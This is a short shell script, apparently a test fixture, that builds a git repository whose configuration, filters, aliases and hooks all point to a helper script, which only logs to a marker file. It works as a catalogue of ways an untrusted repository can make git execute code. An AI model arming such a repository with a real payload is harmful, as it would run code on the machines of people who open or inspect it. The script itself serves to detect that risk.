#!/bin/sh
# Make this folder a repository whose configuration runs a program wherever git can be made to: attack.sh MARK
# The program writes to the file MARK.
set -eu
mark=$1
git -c init.defaultBranch=main init -q .
cat > .git/trap <<EOF
#!/bin/sh
echo "\$0 \$*" >> '$mark'
cat 2> /dev/null || true
EOF
chmod 755 .git/trap
trap=$PWD/.git/trap
echo '* filter=trap diff=trap' > .gitattributes
git -c user.name=a -c user.email=a@example.org add -A
git -c user.name=a -c user.email=a@example.org commit -q -m 'looks harmless'
git config core.fsmonitor "$trap"
git config core.hooksPath "$PWD/.git/hooks"
git config core.pager "$trap"
git config core.editor "$trap"
git config core.sshCommand "$trap"
git config core.askPass "$trap"
git config core.alternateRefsCommand "$trap"
git config diff.external "$trap"
git config diff.trap.textconv "$trap"
git config diff.trap.command "$trap"
git config filter.trap.clean "$trap"
git config filter.trap.smudge "$trap"
git config filter.trap.process "$trap"
git config filter.trap.required true
git config gpg.program "$trap"
git config log.showSignature true
git config credential.helper "$trap"
git config uploadpack.packObjectsHook "$trap"
for name in alias.status alias.rev-parse alias.ls-tree alias.cat-file; do git config "$name" "!$trap"; done
for hook in post-checkout post-index-change reference-transaction pre-auto-gc; do cp .git/trap ".git/hooks/$hook"; done
# The file is another one than was committed, so that git has to look at it; and newer than the index.
echo 'other data' > data.txt
rm -f "$mark"
